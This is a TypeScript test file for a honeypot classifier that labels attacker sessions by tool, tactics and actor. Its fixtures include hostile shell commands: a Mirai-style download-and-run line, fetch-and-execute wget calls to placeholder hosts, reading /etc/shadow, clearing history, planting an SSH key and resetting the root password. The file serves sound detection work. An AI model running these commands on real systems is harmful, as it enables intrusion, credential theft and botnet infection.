import { describe, expect, it } from 'vitest';
import type { Body } from '../../model/event.ts';
import { Actors } from './actors.ts';
import { createClassifier } from './classify.ts';
import { type Given, sessionOf } from './fixture.ts';
import { loadLibrary } from './load.ts';
import { tracesOf } from './traces.ts';

const library = loadLibrary([new URL('../../../behaviours/', import.meta.url).pathname]);
const login = (user: string, secret: string, ok = true): Body => ({ kind: 'login', user, secret, ok });
const hassh = (value = 'ab'.repeat(16)): Body => ({ kind: 'fingerprint', method: 'hassh', value });

function tell(sessions: [acts: (Body | string)[], given?: Given][], ours: string[] = []) {
  const classifier = createClassifier(library, { ours });
  const counted = sessions.map(([acts, given], n) =>
    classifier.count(sessionOf(acts, { session: `s${n}`, ...given })),
  );
  return counted.map((one) => one.tell());
}

describe('a session', () => {
  it('is told with its label, tactics, tool, actor and addresses, each with what it rests on', () => {
    const [told] = tell([
      [
        [
          'enable',
          'sh',
          '/bin/busybox ABCDE',
          'cat /proc/mounts; /bin/busybox ABCDE',
          'wget http://192.0.2.66:81/a.mips -O - > .d; chmod 777 .d; ./.d telnet',
        ],
        { protocol: 'telnet', port: 23 },
      ],
    ]);
    expect(told).toMatchObject({
      labels: ['T1'],
      tool: 'Mirai loader',
      intent: 'botnet',
      actorKind: 'automated',
    });
    expect(told!.tactics).toEqual(
      expect.arrayContaining(['execution', 'command-and-control', 'defense-evasion']),
    );
    expect(told!.indicators.map(({ type, value }) => `${type} ${value}`)).toEqual(
      expect.arrayContaining(['url http://192.0.2.66:81/a.mips', 'ip:port 192.0.2.66:81']),
    );
    for (const { because } of [...told!.indicators, ...told!.behaviours])
      expect(because.length).toBeGreaterThan(0);
  });

  it('without a label has tactics all the same', () => {
    const [told] = tell([[['uname -a', 'cat /etc/shadow', 'history -c']]]);
    expect(told).toMatchObject({ labels: [], confidence: 0, tool: null });
    expect(told!.techniques).toEqual(expect.arrayContaining(['T1082', 'T1003.008', 'T1070.003']));
  });

  it('gives away what it writes in pieces', () => {
    const [told] = tell([
      [['echo -n "wget http://192.0." > /tmp/a', 'echo "2.66/x.sh" >> /tmp/a', 'sh /tmp/a']],
    ]);
    expect(told!.indicators.map(({ value }) => value)).toContain('http://192.0.2.66/x.sh');
  });

  it('is the same told again: what is remembered changes nothing', () => {
    const acts = ['uname -a', 'wget http://192.0.2.66/x; sh x'];
    const [first, second] = tell([[acts], [acts]]);
    const { session: _a, behaviours: _b, acts: _c, indicators: one, ...rest } = first!;
    expect(second).toMatchObject(rest);
    expect(second!.indicators.map(({ value }) => value)).toEqual(one.map(({ value }) => value));
  });
});

describe('how common it is', () => {
  const same = ['cd /opt', 'tar xzf thing.tgz', './thing/run'];
  it('is bulk from three addresses on', () => {
    const told = tell(
      ['192.0.2.1', '192.0.2.2', '192.0.2.3'].map((src, n) => [same, { src, sensor: `d${n}` }]),
    );
    expect(told[0]!.spread).toMatchObject({ scope: 'bulk', sources: 3, sensors: 3, sessions: 3 });
  });
  it('is targeted where it names us, or goes on from another session', () => {
    expect(tell([[['grep -r falconry /srv']]], ['Falconry'])[0]!.spread.scope).toBe('targeted');
    const told = tell([
      [['echo "root:Zx81kQpw"|chpasswd']],
      [[login('root', 'Zx81kQpw'), 'w'], { src: '192.0.2.9' }],
    ]);
    expect(told[1]!.spread).toMatchObject({
      scope: 'targeted',
      reasons: ['It came in with a password that session s0 had set.'],
    });
    expect(told[0]!.spread.scope).toBe('unclassified');
  });
});

describe('actors', () => {
  const key = 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDx x" >> .ssh/authorized_keys';
  it.each<[string, (Body | string)[], (Body | string)[]]>([
    ['a key', [key], ['w', key]],
    [
      'a file',
      [{ kind: 'upload', sha256: 'cd'.repeat(32), size: 9, name: 'a' }],
      [{ kind: 'upload', sha256: 'cd'.repeat(32), size: 9, name: 'b' }],
    ],
    [
      'a rare pair from the same client',
      [hassh(), login('zaphod', 'Hk8!sd')],
      [hassh(), login('zaphod', 'Hk8!sd')],
    ],
    ['a password that one has set', ['echo "root:Zx81kQpw"|chpasswd'], [login('root', 'Zx81kQpw')]],
  ])('are joined by %s', (_, one, other) => {
    const [a, b] = tell([[one], [other, { src: '192.0.2.2' }]]);
    expect(a!.actor).toMatchObject({ addresses: 2, joins: [{ a: '192.0.2.1', b: '192.0.2.2' }] });
    expect(b!.actor!.id).toBe(a!.actor!.id);
  });
  it.each<[string, (Body | string)[]]>([
    ['the same client alone', [hassh()]],
    ['a common password', [hassh(), login('root', 'admin', false)]],
    ['a short sequence', ['uname -a', 'w']],
  ])('are not joined by %s', (_, acts) => {
    const [a, b] = tell([[acts], [acts, { src: '192.0.2.2' }]]);
    expect([a!.actor?.addresses ?? 1, b!.actor?.addresses ?? 1]).toEqual([1, 1]);
  });
  it('stay within their limit, and remember who belongs together', () => {
    const actors = new Actors({ addresses: 100 });
    for (let n = 0; n < 1_000; n++) {
      const session = sessionOf([key], { src: `192.0.${n >> 8}.${n & 255}`, at: 1_750_000_000_000 + n });
      actors.add(session, tracesOf(session), undefined);
    }
    expect(actors.size).toBeLessThanOrEqual(100);
    expect(actors.forgotten).toBeGreaterThan(800);
    expect(actors.of('192.0.3.231')!.addresses).toBeGreaterThan(40);
    expect(actors.of('192.0.0.1')).toBeUndefined();
  });
});
